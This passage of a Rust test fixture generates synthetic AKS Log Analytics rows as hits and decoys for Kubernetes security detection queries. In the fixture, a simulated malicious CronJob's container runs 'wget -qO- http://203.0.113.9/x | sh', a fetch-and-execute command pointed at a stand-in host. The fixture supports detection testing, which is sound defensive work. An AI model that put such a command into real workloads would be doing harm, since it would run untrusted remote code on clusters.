//! A seeded, deterministic generator of AKS-style Log Analytics rows.
//!
//! Shared by `examples/gen_aks_logs.rs` (the command line), the criterion
//! benches (`benches/scan.rs`, `benches/eval.rs`) and the end-to-end test
//! `tests/generated_seeds.rs`; each includes this file with `#[path]`. It is
//! kept out of `src/`: it is a test fixture, not part of the library.
//!
//! It writes the two tables the seven published AKS detections read
//! (`examples/seed-queries.kql`):
//!
//! * `AzureDiagnostics.json` — AKS resource-log rows, in the shape (columns,
//!   category mix, resources, verbs, users) and with the default hit and
//!   decoy rates of `../shared/tools/gen-aks-logs.py`: 80 % are `kube-audit`
//!   rows whose `log_s` is an `audit.k8s.io/v1` Event serialized as a JSON
//!   string (written the way the API server's Go encoder writes it, so `&`,
//!   `<`, `>` appear as `\u0026`, `\u003c`, `\u003e`), the rest are klog
//!   text lines of `kube-apiserver` and three other components.
//! * `AzureActivity.json` — Activity Log rows whose `Properties` is a JSON
//!   string whose `requestbody` is itself a JSON string (double encoded).
//! * `expected.json` — per seed query, the number of rows a correct engine
//!   returns, computed from the generator's own objects (never by running
//!   an engine).
//!
//! It does not reproduce the Python script's bytes (its random stream is
//! its own); it keeps its proportions. On top of the Python shapes it adds,
//! each at a rate of about 1e-4 (scaled by [`Config::rare_scale`]):
//!
//! * hits for the queries **as published**: Q5 compares the first source IP
//!   with `""`, which per docs/semantics.md#null-dynamic-vs-string matches every `kube-audit` row
//!   whose event has no first source IP (key missing, `[]`, `[""]`) or whose
//!   `log_s` is not JSON (an event truncated, as Log Analytics truncates
//!   long values); Q6 reads the annotation key `""`, so a few events carry
//!   one (`"": "allow"` hits when the verb is `create`, `"": "deny"` never);
//! * decoys that only a wrong shortcut would match: a `Job` created by a
//!   CronJob controller (its bytes hold `"kind":"CronJob"` and `create`), a
//!   namespaced `RoleBinding` to `cluster-admin`, users `MasterClient` and
//!   `masterclient-readonly`, a lower-case `"cronjob"` kind, an URL-encoded
//!   `pods%2Fnginx`, truncated events that still hold the matching text;
//! * Q1 hits around non-ASCII text;
//! * escapes: a fraction [`Config::escaped`] of the rare rows (hits and
//!   decoys) is written with `\/` for every `/` and `\u00XX` for some ASCII
//!   letters, in the keys and values of the row, of the audit event or of
//!   the double-encoded Activity properties. The decoded text is the same;
//!   a byte-level prefilter that forgets JSON escapes loses these rows.

#![allow(dead_code)]

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io::{self, Write};
use std::path::{Path, PathBuf};

// ------------------------------------------------------------------ random

/// xoshiro256** seeded through SplitMix64: small, fast, and fixed here so
/// that the same seed gives the same bytes on every platform and version.
pub struct Rng {
    s: [u64; 4],
}

impl Rng {
    pub fn new(seed: u64) -> Rng {
        let mut x = seed;
        let mut next = || {
            x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = x;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        };
        Rng {
            s: [next(), next(), next(), next()],
        }
    }

    pub fn next_u64(&mut self) -> u64 {
        let result = self.s[1].wrapping_mul(5).rotate_left(7).wrapping_mul(9);
        let t = self.s[1] << 17;
        self.s[2] ^= self.s[0];
        self.s[3] ^= self.s[1];
        self.s[1] ^= self.s[2];
        self.s[0] ^= self.s[3];
        self.s[2] ^= t;
        self.s[3] = self.s[3].rotate_left(45);
        result
    }

    /// Uniform in [0, 1).
    pub fn f64(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }

    /// Uniform in [0, n); 0 when n is 0.
    pub fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    /// Uniform in [lo, hi).
    pub fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi.saturating_sub(lo))
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    /// An index drawn with the given weights.
    pub fn weighted(&mut self, weights: &[u32]) -> usize {
        let total: u64 = weights.iter().map(|&w| u64::from(w)).sum();
        let mut x = self.below(total);
        for (i, &w) in weights.iter().enumerate() {
            if x < u64::from(w) {
                return i;
            }
            x -= u64::from(w);
        }
        weights.len() - 1
    }

    /// `n` lower-case hex digits.
    pub fn hex(&mut self, n: usize) -> String {
        let mut s = String::with_capacity(n);
        while s.len() < n {
            let mut v = self.next_u64();
            for _ in 0..16.min(n - s.len()) {
                s.push(char::from(b"0123456789abcdef"[(v & 15) as usize]));
                v >>= 4;
            }
        }
        s
    }

    /// A version-4-looking UUID, laid out as the Python generator does.
    pub fn uuid(&mut self) -> String {
        let h = self.hex(32);
        format!(
            "{}-{}-4{}-{}-{}",
            &h[..8],
            &h[8..12],
            &h[13..16],
            &h[16..20],
            &h[20..32]
        )
    }
}

// -------------------------------------------------------------------- JSON

/// A JSON value with keys in insertion order (like a Python dict).
#[derive(Clone, Debug, PartialEq)]
pub enum J {
    Null,
    Bool(bool),
    Int(i64),
    Str(String),
    Arr(Vec<J>),
    Obj(Vec<(Cow<'static, str>, J)>),
}

impl From<&str> for J {
    fn from(s: &str) -> J {
        J::Str(s.to_string())
    }
}
impl From<String> for J {
    fn from(s: String) -> J {
        J::Str(s)
    }
}
impl From<&String> for J {
    fn from(s: &String) -> J {
        J::Str(s.clone())
    }
}
impl From<i64> for J {
    fn from(n: i64) -> J {
        J::Int(n)
    }
}
impl From<bool> for J {
    fn from(b: bool) -> J {
        J::Bool(b)
    }
}
impl From<Vec<J>> for J {
    fn from(v: Vec<J>) -> J {
        J::Arr(v)
    }
}
impl From<Option<String>> for J {
    fn from(v: Option<String>) -> J {
        v.map_or(J::Null, J::Str)
    }
}

macro_rules! obj {
    ($($k:expr => $v:expr),* $(,)?) => {
        J::Obj(vec![$((Cow::from($k), J::from($v))),*])
    };
}

impl J {
    pub fn get(&self, key: &str) -> Option<&J> {
        match self {
            J::Obj(members) => members.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    pub fn str(&self) -> Option<&str> {
        match self {
            J::Str(s) => Some(s),
            _ => None,
        }
    }

    /// Replaces the member `key` in place, or appends it (Python's `d[k] = v`).
    pub fn set(&mut self, key: impl Into<Cow<'static, str>>, value: J) {
        if let J::Obj(members) = self {
            let key = key.into();
            if let Some(slot) = members.iter_mut().find(|(k, _)| *k == key) {
                slot.1 = value;
            } else {
                members.push((key, value));
            }
        }
    }

    pub fn remove(&mut self, key: &str) {
        if let J::Obj(members) = self {
            members.retain(|(k, _)| k != key);
        }
    }

    /// Compact JSON text.
    pub fn to_text(&self, style: Style) -> String {
        let mut out = String::with_capacity(1024);
        self.write(&mut out, style);
        out
    }

    pub fn write(&self, out: &mut String, style: Style) {
        match self {
            J::Null => out.push_str("null"),
            J::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
            J::Int(n) => {
                let _ = write!(out, "{n}");
            }
            J::Str(s) => write_str(out, s, style),
            J::Arr(items) => {
                out.push('[');
                for (i, v) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    v.write(out, style);
                }
                out.push(']');
            }
            J::Obj(members) => {
                out.push('{');
                for (i, (k, v)) in members.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    write_str(out, k, style);
                    out.push(':');
                    v.write(out, style);
                }
                out.push('}');
            }
        }
    }
}

/// How strings are escaped.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Style {
    /// Python's `json.dumps(ensure_ascii=False)`: only `"`, `\` and control
    /// characters.
    Python,
    /// Go's `encoding/json` (the API server's audit log): also `<`, `>`, `&`,
    /// U+2028 and U+2029 as `\u` escapes.
    Go,
    /// Legal but unusual: `\/` for every `/`, and every third ASCII
    /// letter or digit as `\u00XX`. Decodes to the same text.
    Heavy,
}

fn write_str(out: &mut String, s: &str, style: Style) {
    out.push('"');
    for (i, c) in s.chars().enumerate() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\u{8}' => out.push_str("\\b"),
            '\u{c}' => out.push_str("\\f"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            '<' | '>' | '&' | '\u{2028}' | '\u{2029}' if style != Style::Python => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            '/' if style == Style::Heavy => out.push_str("\\/"),
            c if style == Style::Heavy && c.is_ascii_alphanumeric() && i % 3 == 1 => {
                // Upper-case hex digits for some, lower-case for others: both are legal.
                if i % 2 == 0 {
                    let _ = write!(out, "\\u{:04X}", c as u32);
                } else {
                    let _ = write!(out, "\\u{:04x}", c as u32);
                }
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

// ------------------------------------------------------------------ config

/// What to generate.
#[derive(Clone, Debug)]
pub struct Config {
    pub rows: u64,
    pub activity_rows: u64,
    pub seed: u64,
    /// Multiplies the rate of every rare shape (hits and decoys); 1 keeps
    /// the Python generator's rates. At most 100.
    pub rare_scale: f64,
    /// Fraction of rare rows written with [`Style::Heavy`] escapes.
    pub escaped: f64,
    /// Days the rows' `TimeGenerated` spread over, from 2024-11-04 (1: the
    /// default; at most 26).
    pub days: u64,
}

impl Config {
    pub fn new(rows: u64, activity_rows: u64, seed: u64) -> Config {
        Config {
            rows,
            activity_rows,
            seed,
            rare_scale: 1.0,
            escaped: DEFAULT_ESCAPED,
            days: 1,
        }
    }
}

/// Default fraction of rare rows written with heavy escapes.
pub const DEFAULT_ESCAPED: f64 = 0.05;

/// Row counts a correct engine returns for each seed query.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Expected {
    /// `Category == "kube-apiserver"` and `log_s contains "pods/nginx"` (case-insensitive).
    pub q1: u64,
    /// The same with a case-sensitive match, for reference.
    pub q1_case_sensitive: u64,
    pub q2: u64,
    pub q3: u64,
    pub q4: u64,
    /// Q5 as published: first source IP `== ""` (missing, empty, or not JSON).
    pub q5: u64,
    /// Q5 with the literal the article lost: first source IP `== "10.0.0.1"`.
    pub q5_restored: u64,
    /// Q6 as published: verb `create` and annotation `""` equal to `"allow"`.
    pub q6: u64,
    /// Q6 with the lost key: annotation `authorization.k8s.io/decision` is `"allow"`.
    pub q6_restored: u64,
    pub q7: u64,
}

impl Expected {
    /// `(name, count)` in the order of the seed query file, then the extras.
    pub fn entries(&self) -> Vec<(&'static str, u64)> {
        vec![
            ("Q1", self.q1),
            ("Q2", self.q2),
            ("Q3", self.q3),
            ("Q4", self.q4),
            ("Q5", self.q5),
            ("Q6", self.q6),
            ("Q7", self.q7),
            ("Q1_case_sensitive", self.q1_case_sensitive),
            ("Q5_restored", self.q5_restored),
            ("Q6_restored", self.q6_restored),
        ]
    }

    /// The expected count of seed query `Q1`..`Q7`.
    pub fn seed(&self, name: &str) -> Option<u64> {
        self.entries()
            .into_iter()
            .find(|(n, _)| *n == name)
            .map(|(_, c)| c)
    }

    pub fn add(&mut self, other: &Expected) {
        self.q1 += other.q1;
        self.q1_case_sensitive += other.q1_case_sensitive;
        self.q2 += other.q2;
        self.q3 += other.q3;
        self.q4 += other.q4;
        self.q5 += other.q5;
        self.q5_restored += other.q5_restored;
        self.q6 += other.q6;
        self.q6_restored += other.q6_restored;
        self.q7 += other.q7;
    }
}

// -------------------------------------------------------------- constants

const OWNER: &str = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635";
const CONTRIBUTOR: &str = "b24988ac-6180-42a0-ab88-20f7382dd24c";
const READER: &str = "acdd72a7-3385-48ef-bd42-f606fba81ae7";
const USER_ACCESS_ADMIN: &str = "18d7d88d-d35e-4fb5-a5c3-7773c20a72d9";
const STORAGE_BLOB_READER: &str = "2a2b9908-6ea1-4ae2-8e65-a410df84e7d1";

const TENANT: &str = "72f988bf-86f1-41af-91ab-2d7cd011db47";
const SUBS: [&str; 2] = [
    "3f2b6c1e-9d4a-4c5e-8b7f-1a2b3c4d5e6f",
    "b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d5e",
];
const CLUSTERS: [(&str, &str); 3] = [
    ("rg-aks-prod-weu", "aks-prod-weu-01"),
    ("rg-aks-dev-neu", "aks-dev-neu-01"),
    ("rg-aks-prod-eus", "aks-prod-eus-02"),
];

const CATEGORIES: [&str; 5] = [
    "kube-audit",
    "kube-apiserver",
    "kube-controller-manager",
    "kube-scheduler",
    "cluster-autoscaler",
];
const CAT_WEIGHTS: [u32; 5] = [80, 8, 5, 4, 3];

const NAMESPACES: [&str; 8] = [
    "default",
    "kube-system",
    "monitoring",
    "payments",
    "web",
    "gatekeeper-system",
    "calico-system",
    "ingress-nginx",
];
const NODES: [&str; 10] = [
    "aks-nodepool1-38145972-vmss000000",
    "aks-nodepool1-38145972-vmss000001",
    "aks-nodepool1-38145972-vmss000002",
    "aks-nodepool1-38145972-vmss000003",
    "aks-nodepool1-38145972-vmss000004",
    "aks-nodepool1-38145972-vmss000005",
    "aks-userpool-11223344-vmss000000",
    "aks-userpool-11223344-vmss000001",
    "aks-userpool-11223344-vmss000002",
    "aks-userpool-11223344-vmss000003",
];

struct User {
    name: &'static str,
    groups: &'static [&'static str],
    agent: &'static str,
}

const SYSTEM_USERS: [User; 11] = [
    User {
        name: "system:kube-controller-manager",
        groups: &["system:authenticated"],
        agent: "kube-controller-manager/v1.29.7 (linux/amd64) kubernetes/4f5c7e8/leader-election",
    },
    User {
        name: "system:kube-scheduler",
        groups: &["system:authenticated"],
        agent: "kube-scheduler/v1.29.7 (linux/amd64) kubernetes/4f5c7e8/leader-election",
    },
    User {
        name: "system:apiserver",
        groups: &["system:masters"],
        agent: "kube-apiserver/v1.29.7 (linux/amd64) kubernetes/4f5c7e8",
    },
    User {
        name: "system:serviceaccount:kube-system:coredns",
        groups: &[
            "system:serviceaccounts",
            "system:serviceaccounts:kube-system",
            "system:authenticated",
        ],
        agent: "coredns/v1.11.1 (linux/amd64) kubernetes/4f5c7e8",
    },
    User {
        name: "system:serviceaccount:kube-system:konnectivity-agent",
        groups: &[
            "system:serviceaccounts",
            "system:serviceaccounts:kube-system",
            "system:authenticated",
        ],
        agent: "proxy-agent/v0.1.6 (linux/amd64) kubernetes/4f5c7e8",
    },
    User {
        name: "system:serviceaccount:kube-system:ama-logs",
        groups: &[
            "system:serviceaccounts",
            "system:serviceaccounts:kube-system",
            "system:authenticated",
        ],
        agent: "ama-logs/v3.1.21 (linux/amd64)",
    },
    User {
        name: "system:serviceaccount:gatekeeper-system:gatekeeper-admin",
        groups: &[
            "system:serviceaccounts",
            "system:serviceaccounts:gatekeeper-system",
            "system:authenticated",
        ],
        agent: "gatekeeper/v3.14.0 (linux/amd64)",
    },
    User {
        name: "aksService",
        groups: &["system:masters", "system:authenticated"],
        agent: "aks-operator/v0.0.1 (linux/amd64)",
    },
    User {
        name: "nodeclient",
        groups: &["system:nodes", "system:authenticated"],
        agent: "kubelet/v1.29.7 (linux/amd64) kubernetes/4f5c7e8",
    },
    User {
        name: "alice@contoso.com",
        groups: &["aad:group:9b1f6c7e", "system:authenticated"],
        agent: "kubectl/v1.29.2 (darwin/arm64) kubernetes/4f5c7e8",
    },
    User {
        name: "bob@contoso.com",
        groups: &["aad:group:4c2d9e1a", "system:authenticated"],
        agent: "kubectl/v1.30.1 (linux/amd64) kubernetes/7a9f3c2",
    },
];
const SYSTEM_WEIGHTS: [u32; 11] = [20, 12, 6, 8, 6, 6, 6, 4, 20, 2, 2];

/// (resource, apiGroup, apiVersion, namespaced)
const RESOURCES: [(&str, &str, &str, bool); 13] = [
    ("leases", "coordination.k8s.io", "v1", true),
    ("pods", "", "v1", true),
    ("configmaps", "", "v1", true),
    ("endpoints", "", "v1", true),
    ("events", "", "v1", true),
    ("nodes", "", "v1", false),
    ("secrets", "", "v1", true),
    ("deployments", "apps", "v1", true),
    ("replicasets", "apps", "v1", true),
    ("tokenreviews", "authentication.k8s.io", "v1", false),
    ("subjectaccessreviews", "authorization.k8s.io", "v1", false),
    (
        "clusterrolebindings",
        "rbac.authorization.k8s.io",
        "v1",
        false,
    ),
    ("cronjobs", "batch", "v1", true),
];
const RES_WEIGHTS: [u32; 13] = [30, 18, 8, 6, 8, 6, 4, 4, 3, 5, 4, 1, 1];
const VERBS: [&str; 7] = [
    "get", "list", "watch", "update", "patch", "create", "delete",
];
const VERB_WEIGHTS: [u32; 7] = [34, 12, 10, 20, 6, 15, 3];
const ROLES: [&str; 6] = [
    "view",
    "edit",
    "admin",
    "system:aggregate-to-view",
    "gatekeeper-manager-role",
    "ama-logs-reader",
];

const AZ_OPS: [(&str, &str); 8] = [
    (
        "Microsoft.Compute/virtualMachines/write",
        "Create or Update Virtual Machine",
    ),
    (
        "Microsoft.Storage/storageAccounts/listKeys/action",
        "List Storage Account Keys",
    ),
    (
        "Microsoft.Network/networkSecurityGroups/write",
        "Create or Update Network Security Group",
    ),
    ("Microsoft.Resources/deployments/write", "Create Deployment"),
    ("Microsoft.KeyVault/vaults/write", "Update Key Vault"),
    (
        "Microsoft.ContainerService/managedClusters/listClusterUserCredential/action",
        "List cluster user credential",
    ),
    (
        "Microsoft.Authorization/roleAssignments/delete",
        "Delete role assignment",
    ),
    (
        "Microsoft.Authorization/roleAssignments/write",
        "Create role assignment",
    ),
];
const AZ_OP_WEIGHTS: [u32; 8] = [25, 20, 12, 15, 8, 15, 2, 3];

// --------------------------------------------------------------- generator

/// What [`Gen::audit_event`] produced.
struct Audit {
    event: J,
    /// A hit or decoy shape: a candidate for heavy escaping.
    rare: bool,
    /// Cut the serialized event short (Log Analytics truncation): `log_s` is not JSON.
    truncate: bool,
}

pub struct Gen {
    r: Rng,
    /// Rate multiplier for rare shapes.
    k: f64,
    escaped: f64,
    /// Days the rows spread over.
    pub days: u64,
}

/// 2024-11-04T00:00:00Z, the start of the generated day.
const T0_DAY: u64 = 4;

impl Gen {
    pub fn new(seed: u64, rare_scale: f64, escaped: f64) -> Gen {
        Gen {
            r: Rng::new(seed),
            k: rare_scale.clamp(0.0, 100.0),
            escaped,
            days: 1,
        }
    }

    fn chance(&mut self, p: f64) -> bool {
        self.r.f64() < p
    }

    /// `2024-11-04T00:00:01.1234560Z`: row `i` of `total`, spread over
    /// `days` days (one by default).
    fn ts(&mut self, i: u64, total: u64) -> String {
        let span = 86_400.0 * self.days.clamp(1, 26) as f64;
        let base = (i as f64 * span * 1e6 / total.max(1) as f64) as u64;
        let micros = base + self.r.below(500_000);
        let secs = micros / 1_000_000;
        let frac = micros % 1_000_000;
        let (d, h, m, s) = (
            T0_DAY + secs / 86_400,
            secs / 3600 % 24,
            secs / 60 % 60,
            secs % 60,
        );
        format!("2024-11-{d:02}T{h:02}:{m:02}:{s:02}.{:07}Z", frac * 10)
    }

    /// `I1104 00:00:01.123456` from an ISO timestamp.
    fn klog_ts(iso: &str) -> String {
        format!(
            "I{}{} {}.{}",
            &iso[5..7],
            &iso[8..10],
            &iso[11..19],
            &iso[20..26]
        )
    }

    fn pod_ip(&mut self) -> String {
        format!("10.244.{}.{}", self.r.below(8), self.r.range(2, 250))
    }

    fn node_ip(&mut self) -> String {
        format!("10.224.0.{}", self.r.range(4, 14))
    }

    /// The event's `sourceIPs`; `None` leaves the key out.
    fn source_ips(&mut self) -> (Option<Vec<J>>, bool) {
        let k = self.k;
        let x = self.r.f64();
        let one = |s: &str| Some(vec![J::from(s)]);
        if x < 0.00025 * k {
            return (one("10.0.0.1"), true); // Q5_restored hit
        }
        if x < 0.00050 * k {
            return (Some(vec!["10.0.0.1".into(), "172.16.0.7".into()]), true); // Q5_restored hit
        }
        if x < 0.00070 * k {
            return (Some(vec!["172.16.0.7".into(), "10.0.0.1".into()]), true); // decoy: second element
        }
        if x < 0.00090 * k {
            return (one("10.0.0.10"), true); // decoy: prefix
        }
        if x < 0.00100 * k {
            return (Some(vec![]), true); // Q5 (published) hit: no first element
        }
        if x < 0.00105 * k {
            return (Some(vec!["".into(), "10.0.0.1".into()]), true); // Q5 hit: first is ""
        }
        if x < 0.00110 * k {
            return (None, true); // Q5 hit: no sourceIPs at all
        }
        if x < 0.55 {
            return (Some(vec![self.node_ip().into()]), false);
        }
        if x < 0.95 {
            return (Some(vec![self.pod_ip().into()]), false);
        }
        let ip = format!(
            "52.{}.{}.{}",
            self.r.below(255),
            self.r.below(255),
            self.r.range(1, 255)
        );
        (Some(vec![ip.into()]), false)
    }

    // ------------------------------------------------------------ objects

    fn pod_object(&mut self, ns: Option<&str>, name: &str) -> J {
        let img = *self.r.pick(&[
            "nginx:1.25.3",
            "mcr.microsoft.com/oss/kubernetes/pause:3.6",
            "contoso.azurecr.io/payments/api:2.14.1",
            "busybox:1.36",
        ]);
        let app = rsplit_n(name, '-', 2);
        let rs = rsplit_n(name, '-', 1);
        let container = name.split('-').next().unwrap_or(name);
        obj! {
            "kind" => "Pod", "apiVersion" => "v1",
            "metadata" => obj! {
                "name" => name, "namespace" => ns.map(str::to_string), "creationTimestamp" => J::Null,
                "labels" => obj! { "app" => app, "pod-template-hash" => self.r.hex(10) },
                "ownerReferences" => vec![obj! {
                    "apiVersion" => "apps/v1", "kind" => "ReplicaSet", "name" => rs,
                    "uid" => self.r.uuid(), "controller" => true, "blockOwnerDeletion" => true,
                }],
            },
            "spec" => obj! {
                "containers" => vec![obj! {
                    "name" => container, "image" => img,
                    "ports" => vec![obj! { "containerPort" => 80i64, "protocol" => "TCP" }],
                    "resources" => obj! {
                        "limits" => obj! { "cpu" => "500m", "memory" => "256Mi" },
                        "requests" => obj! { "cpu" => "100m", "memory" => "64Mi" },
                    },
                    "terminationMessagePath" => "/dev/termination-log",
                    "imagePullPolicy" => "IfNotPresent",
                }],
                "restartPolicy" => "Always", "terminationGracePeriodSeconds" => 30i64,
                "dnsPolicy" => "ClusterFirst", "serviceAccountName" => "default",
                "schedulerName" => "default-scheduler",
            },
            "status" => obj! {},
        }
    }

    fn lease_object(&mut self, ns: Option<&str>, name: &str, ts: &str) -> J {
        obj! {
            "kind" => "Lease", "apiVersion" => "coordination.k8s.io/v1",
            "metadata" => obj! {
                "name" => name, "namespace" => ns.map(str::to_string), "uid" => self.r.uuid(),
                "resourceVersion" => self.r.range(1_000_000, 100_000_000).to_string(),
            },
            "spec" => obj! {
                "holderIdentity" => format!("{name}_{}", self.r.uuid()),
                "leaseDurationSeconds" => 15i64,
                "acquireTime" => format!("{}.000000Z", &ts[..19]),
                "renewTime" => format!("{}Z", &ts[..26]),
                "leaseTransitions" => self.r.below(40) as i64,
            },
        }
    }

    fn crb_object(kind: &str, name: &str, role: &str, subject_user: &str) -> J {
        obj! {
            "kind" => kind, "apiVersion" => "rbac.authorization.k8s.io/v1",
            "metadata" => obj! { "name" => name, "creationTimestamp" => J::Null },
            "roleRef" => obj! { "apiGroup" => "rbac.authorization.k8s.io", "kind" => "ClusterRole", "name" => role },
            "subjects" => vec![obj! { "kind" => "User", "apiGroup" => "rbac.authorization.k8s.io", "name" => subject_user }],
        }
    }

    fn cronjob_object(&mut self, kind: &str, ns: &str, name: &str) -> J {
        let schedule = *self.r.pick(&["*/5 * * * *", "0 * * * *", "*/1 * * * *"]);
        obj! {
            "kind" => kind, "apiVersion" => "batch/v1",
            "metadata" => obj! { "name" => name, "namespace" => ns, "creationTimestamp" => J::Null },
            "spec" => obj! {
                "schedule" => schedule,
                "jobTemplate" => obj! {
                    "metadata" => obj! { "creationTimestamp" => J::Null },
                    "spec" => obj! { "template" => obj! {
                        "metadata" => obj! { "creationTimestamp" => J::Null },
                        "spec" => obj! {
                            "containers" => vec![obj! {
                                "name" => name, "image" => "busybox:1.36",
                                "command" => vec![J::from("/bin/sh"), J::from("-c"), J::from("wget -qO- http://203.0.113.9/x | sh")],
                                "resources" => obj! {},
                            }],
                            "restartPolicy" => "OnFailure",
                        },
                    }},
                },
            },
            "status" => obj! {},
        }
    }

    /// A Job created by the CronJob controller: its bytes hold `"kind":"CronJob"`.
    fn job_from_cronjob(&mut self, ns: &str, cron: &str, name: &str) -> J {
        obj! {
            "kind" => "Job", "apiVersion" => "batch/v1",
            "metadata" => obj! {
                "name" => name, "namespace" => ns, "creationTimestamp" => J::Null,
                "labels" => obj! { "batch.kubernetes.io/cronjob-name" => cron },
                "ownerReferences" => vec![obj! {
                    "apiVersion" => "batch/v1", "kind" => "CronJob", "name" => cron,
                    "uid" => self.r.uuid(), "controller" => true, "blockOwnerDeletion" => true,
                }],
            },
            "spec" => obj! { "template" => obj! { "spec" => obj! {
                "containers" => vec![obj! { "name" => cron, "image" => "busybox:1.36" }],
                "restartPolicy" => "OnFailure",
            }}},
            "status" => obj! {},
        }
    }

    fn generic_object(&mut self, kind: &str, api: &str, ns: Option<&str>, name: &str) -> J {
        let n = self.r.range(1, 4);
        let data = J::Obj(
            (0..n)
                .map(|k| (Cow::from(format!("key-{k}")), J::Str(self.r.hex(16))))
                .collect(),
        );
        obj! {
            "kind" => kind, "apiVersion" => api,
            "metadata" => obj! {
                "name" => name, "namespace" => ns.map(str::to_string), "uid" => self.r.uuid(),
                "resourceVersion" => self.r.range(1_000_000, 100_000_000).to_string(),
                "annotations" => obj! { "control-plane.alpha.kubernetes.io/leader" => "{}" },
            },
            "data" => data,
        }
    }

    // ------------------------------------------------------------- events

    fn audit_event(&mut self, ts: &str) -> Audit {
        let k = self.k;
        let user = &SYSTEM_USERS[self.r.weighted(&SYSTEM_WEIGHTS)];
        let (mut u_name, mut u_groups, mut ua) = (
            user.name.to_string(),
            user.groups.to_vec(),
            user.agent.to_string(),
        );
        let (resource, group, ver, namespaced) = RESOURCES[self.r.weighted(&RES_WEIGHTS)];
        let (mut resource, mut group) = (resource, group);
        let mut verb = VERBS[self.r.weighted(&VERB_WEIGHTS)];
        if resource == "tokenreviews" || resource == "subjectaccessreviews" {
            verb = "create";
        } else if resource == "leases" && verb != "get" && verb != "update" {
            verb = *self.r.pick(&["get", "update"]);
        }
        let mut ns: Option<String> = if namespaced {
            Some(self.r.pick(&NAMESPACES).to_string())
        } else {
            None
        };
        let mut name: Option<String> = None;
        let mut req_obj: Option<J> = None;
        let mut rare = true;
        let special = self.r.f64();
        // Rare, query-relevant shapes; the first nine are the Python generator's.
        if special < 0.00030 * k {
            // Q2 hit
            (verb, resource, group, ns) = (
                "create",
                "clusterrolebindings",
                "rbac.authorization.k8s.io",
                None,
            );
            let n = format!("debug-admin-{}", self.r.hex(5));
            (u_name, u_groups, ua) = (
                "bob@contoso.com".into(),
                vec!["aad:group:4c2d9e1a", "system:authenticated"],
                "kubectl/v1.30.1 (linux/amd64) kubernetes/7a9f3c2".into(),
            );
            req_obj = Some(Self::crb_object(
                "ClusterRoleBinding",
                &n,
                "cluster-admin",
                "eve@contoso.com",
            ));
            name = Some(n);
        } else if special < 0.00045 * k {
            // decoy: CRB to another role
            (verb, resource, group, ns) = (
                "create",
                "clusterrolebindings",
                "rbac.authorization.k8s.io",
                None,
            );
            let n = format!("binding-{}", self.r.hex(5));
            let role = *self.r.pick(&ROLES);
            req_obj = Some(Self::crb_object(
                "ClusterRoleBinding",
                &n,
                role,
                "carol@contoso.com",
            ));
            name = Some(n);
        } else if special < 0.00055 * k {
            // decoy: cluster-admin CRB, but update
            (verb, resource, group, ns) = (
                "update",
                "clusterrolebindings",
                "rbac.authorization.k8s.io",
                None,
            );
            req_obj = Some(Self::crb_object(
                "ClusterRoleBinding",
                "cluster-admin",
                "cluster-admin",
                "system:masters",
            ));
            name = Some("cluster-admin".into());
        } else if special < 0.00085 * k {
            // Q3 hit
            (verb, resource, group) = ("create", "cronjobs", "batch");
            let space = *self.r.pick(&["default", "kube-system"]);
            let n = format!("backup-{}", self.r.hex(5));
            req_obj = Some(self.cronjob_object("CronJob", space, &n));
            (ns, name) = (Some(space.into()), Some(n));
        } else if special < 0.00095 * k {
            // decoy: CronJob patch
            (verb, resource, group, ns) = ("patch", "cronjobs", "batch", Some("default".into()));
            req_obj = Some(self.cronjob_object("CronJob", "default", "nightly-report"));
            name = Some("nightly-report".into());
        } else if special < 0.00135 * k {
            // Q4 hit
            (u_name, u_groups, ua) = (
                "masterclient".into(),
                vec!["system:masters", "system:authenticated"],
                "kubectl/v1.29.2 (windows/amd64) kubernetes/4f5c7e8".into(),
            );
        } else if special < 0.00145 * k {
            // decoy: similar user
            (u_name, u_groups) = ("masterclient-readonly".into(), vec!["system:authenticated"]);
        } else if special < 0.00150 * k {
            // decoy: == is case-sensitive
            (u_name, u_groups) = ("MasterClient".into(), vec!["system:authenticated"]);
        } else if special < 0.00160 * k {
            // decoy for Q3: a Job created by the CronJob controller
            (verb, resource, group) = ("create", "jobs", "batch");
            let space = *self.r.pick(&["default", "payments"]);
            let cron = format!("backup-{}", self.r.hex(5));
            let n = format!("{cron}-{}", self.r.range(28_000_000, 29_000_000));
            let u = &SYSTEM_USERS[0];
            (u_name, u_groups, ua) = (u.name.into(), u.groups.to_vec(), u.agent.into());
            req_obj = Some(self.job_from_cronjob(space, &cron, &n));
            (ns, name) = (Some(space.into()), Some(n));
        } else if special < 0.00165 * k {
            // decoy for Q3: a lower-case kind (== is case-sensitive)
            (verb, resource, group) = ("create", "cronjobs", "batch");
            let n = format!("lower-{}", self.r.hex(5));
            req_obj = Some(self.cronjob_object("cronjob", "default", &n));
            (ns, name) = (Some("default".into()), Some(n));
        } else if special < 0.00175 * k {
            // decoy for Q2: a namespaced RoleBinding to the cluster-admin ClusterRole
            (verb, resource, group) = ("create", "rolebindings", "rbac.authorization.k8s.io");
            let space = *self.r.pick(&["payments", "web"]);
            let n = format!("ns-admin-{}", self.r.hex(5));
            req_obj = Some(Self::crb_object(
